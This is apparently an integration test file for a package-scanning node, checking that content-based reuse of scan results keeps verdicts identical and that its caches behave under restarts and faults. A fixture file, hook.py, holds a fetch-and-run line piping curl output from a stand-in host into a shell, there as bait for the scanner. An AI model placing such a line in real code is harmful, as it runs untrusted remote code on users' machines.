//! The node reusing scan results by content: same verdicts, less scanning,
//! and the `scan_reuse` telemetry in `PUT /package`.

mod common;

use std::process::Stdio;
use std::time::{Duration, Instant};

use dragonfly_testkit::fixtures::{self, FixtureFile};
use dragonfly_testkit::server::{Distribution, Endpoint, FakeServer, Fault, FaultAction, ServerConfig};
use serde_json::Value;

/// Consecutive releases where most files carry over, each as an sdist and
/// a wheel of the same files.
fn releases() -> Vec<(String, Vec<FixtureFile>)> {
    let system = ["os.", "system"].concat();
    (0..3)
        .map(|i| {
            let mut files: Vec<FixtureFile> = (0..12)
                .map(|n| FixtureFile {
                    path: format!("stream/mod{n}.py"),
                    data: format!("def f{n}(x):\n    return x * {n}\n").repeat(50).into_bytes(),
                })
                .collect();
            files.push(FixtureFile {
                path: "stream/hook.py".into(),
                data: format!("import os\n{system}('curl -s http://x.invalid | sh')\n").into_bytes(),
            });
            // One file changes every release.
            files.push(FixtureFile {
                path: "stream/version.py".into(),
                data: format!("V = {i}\n").into_bytes(),
            });
            (format!("1.{i}"), files)
        })
        .collect()
}

/// Runs a node with `mode` over the releases, one job at a time; the
/// result bodies by version.
fn run_node(mode: &str) -> Vec<(String, Value)> {
    run_node_with(mode, &[])
}

/// As [`run_node`], with more settings.
fn run_node_with(mode: &str, env: &[(&str, &str)]) -> Vec<(String, Value)> {
    run_on(&FakeServer::start(ServerConfig::default()).unwrap(), mode, env)
}

/// Queues the releases on `server` (again, if they were) and runs a node
/// with `mode` and `env` until each has a result; the result bodies by
/// version.
fn run_on(server: &FakeServer, mode: &str, env: &[(&str, &str)]) -> Vec<(String, Value)> {
    server.set_rules("r1", common::bundled_rules());
    let before = server.results().len();
    let all = releases();
    for (version, files) in &all {
        server.add_package(
            "stream",
            version,
            vec![
                Distribution::new(
                    fixtures::sdist_filename("stream", version),
                    fixtures::sdist("stream", version, files),
                ),
                Distribution::new(
                    fixtures::wheel_filename("stream", version),
                    fixtures::wheel("stream", version, files),
                ),
            ],
        );
    }
    let dir = tempfile::tempdir().unwrap();
    let node = common::Running::new(
        common::node_against(&server.url(), dir.path())
            .env("DRAGONFLY_THREADS", "1")
            .env("DRAGONFLY_BULK_SIZE", "1")
            .env("DRAGONFLY_SCAN_REUSE", mode)
            .envs(env.iter().copied())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let started = Instant::now();
    while server.results().len() < before + all.len() && started.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(20));
    }
    let output = node.terminate_with_output();
    let results = server.results().split_off(before);
    assert_eq!(results.len(), all.len(), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(results.iter().all(|r| r.status == 200), "every result accepted: {results:?}");
    let mut bodies: Vec<(String, Value)> = results.into_iter().map(|r| (r.version, r.body)).collect();
    bodies.sort_by(|a, b| a.0.cmp(&b.0));
    bodies
}

fn verdict(body: &Value) -> (Value, Value) {
    (body["score"].clone(), body["rules_matched"].clone())
}

#[test]
fn reuse_gives_the_verdicts_of_a_full_scan_with_less_scanning() {
    let off = run_node("off");
    let reuse = run_node("reuse");
    let observe = run_node("observe");
    for ((version, full), ((_, reused), (_, observed))) in off.iter().zip(reuse.iter().zip(&observe)) {
        assert_eq!(verdict(full), verdict(reused), "{version}");
        assert_eq!(verdict(full), verdict(observed), "{version}");
        assert!(full["score"].as_i64().unwrap() > 0);
        assert!(full.get("scan_reuse").is_none(), "off sends no telemetry: {full}");
    }
    // Within the first release the wheel repeats the sdist's files; later
    // releases repeat all but one file.
    let stats =
        |body: &Value, key: &str| body["scan_reuse"][key].as_u64().unwrap_or_else(|| panic!("{key}: {body}"));
    let first = &reuse[0].1;
    assert_eq!(first["scan_reuse"]["mode"], "reuse");
    assert!(stats(first, "reused_files") >= 13, "{first}");
    for (version, later) in &reuse[1..] {
        let (candidates, reused, engine) =
            (stats(later, "candidate_files"), stats(later, "reused_files"), stats(later, "engine_files"));
        // 13 carried-over files in the sdist and the wheel each.
        assert!(reused >= 26, "{version}: {later}");
        // What changed: version.py once (the wheel's copy is a hit), and the
        // metadata that names the version.
        assert!((1..=6).contains(&engine), "{version}: {later}");
        assert_eq!(candidates, reused + engine, "{version}: {later}");
        assert!(stats(later, "reused_bytes") > 10_000, "{later}");
        assert_eq!(stats(later, "mismatched_files"), 0);
    }
    // Observe scans everything and counts what it would have reused.
    for (version, body) in &observe[1..] {
        assert_eq!(body["scan_reuse"]["mode"], "observe");
        assert_eq!(stats(body, "engine_files"), stats(body, "candidate_files"), "{version}: {body}");
        assert!(stats(body, "reused_files") >= 26, "{version}: {body}");
        assert_eq!(stats(body, "mismatched_files"), 0);
    }
}

#[test]
fn a_restarted_node_keeps_its_results_in_the_cache_directory() {
    let cache = tempfile::tempdir().unwrap();
    let dir = cache.path().to_str().unwrap().to_owned();
    let first = run_node_with("reuse", &[("DRAGONFLY_CACHE_DIR", &dir)]);
    assert!(cache.path().join("scan-results.redb").is_file());
    let again = run_node_with("reuse", &[("DRAGONFLY_CACHE_DIR", &dir)]);
    for ((version, before), (_, after)) in first.iter().zip(&again) {
        assert_eq!(verdict(before), verdict(after), "{version}");
        // Everything was scanned before the restart.
        assert_eq!(after["scan_reuse"]["engine_files"], 0, "{version}: {after}");
        assert_eq!(after["scan_reuse"]["reused_files"], after["scan_reuse"]["candidate_files"], "{after}");
    }
}

fn cache_server() -> FakeServer {
    FakeServer::start(ServerConfig { scan_cache: true, scan_cache_rate: 1000, ..ServerConfig::default() })
        .unwrap()
}

#[test]
fn a_second_node_takes_what_the_first_scanned_from_the_servers_scan_cache() {
    let server = cache_server();
    let fast = [("DRAGONFLY_SCAN_CACHE_RATE", "1000")];
    let first = run_on(&server, "reuse", &fast);
    let stored = server.scan_cache_stats();
    assert!(stored.inserted >= 14 && stored.entries as u64 == stored.inserted, "{stored:?}");
    // Another node, nothing kept locally.
    let second = run_on(&server, "reuse", &fast);
    for ((version, before), (_, after)) in first.iter().zip(&second) {
        assert_eq!(verdict(before), verdict(after), "{version}");
        let reuse = &after["scan_reuse"];
        assert_eq!(reuse["engine_files"], 0, "{version}: everything came from the fleet: {after}");
        assert_eq!(reuse["reused_files"], reuse["candidate_files"], "{after}");
        assert_eq!(reuse["errors"], 0, "{after}");
    }
    assert_eq!(server.scan_cache_stats().inserted, stored.inserted, "nothing new to offer");
    // With the cache switched off on the node, nothing is asked.
    let asked = server.stats().requests_to(Endpoint::ScanCache);
    run_on(&server, "reuse", &[("DRAGONFLY_SCAN_CACHE", "false")]);
    assert_eq!(server.stats().requests_to(Endpoint::ScanCache), asked);
}

#[test]
fn a_server_without_a_scan_cache_is_asked_once() {
    let server = FakeServer::start(ServerConfig::default()).unwrap();
    let bodies = run_on(&server, "reuse", &[]);
    assert_eq!(server.stats().requests_to(Endpoint::ScanCache), 1, "a 404 closes it for 10 minutes");
    for (version, body) in &bodies {
        assert_eq!(body["scan_reuse"]["errors"], 0, "{version}: a 404 is no error: {body}");
    }
}

#[test]
fn a_failing_or_slow_scan_cache_never_fails_a_job() {
    let reference = run_node("reuse");
    for action in
        [FaultAction::Status(503), FaultAction::Status(429), FaultAction::Delay(Duration::from_secs(2))]
    {
        let server = cache_server();
        server.add_fault(Fault::new(Endpoint::ScanCache, action));
        let started = Instant::now();
        let bodies = run_on(&server, "reuse", &[]);
        let mut errors = 0;
        for ((version, want), (_, got)) in reference.iter().zip(&bodies) {
            assert_eq!(verdict(want), verdict(got), "{action:?} {version}");
            errors += got["scan_reuse"]["errors"].as_u64().unwrap();
        }
        // A 429 is flow control: it closes the cache for a second.
        if action == FaultAction::Status(429) {
            assert_eq!(errors, 0, "{bodies:?}");
        } else {
            assert!(errors >= 1, "{action:?}: {bodies:?}");
        }
        // At most a request's budget (750 ms) per job when the cache is slow.
        assert!(started.elapsed() < Duration::from_secs(30), "{action:?}");
        assert_eq!(server.scan_cache_stats().inserted, 0, "{action:?}");
    }
}
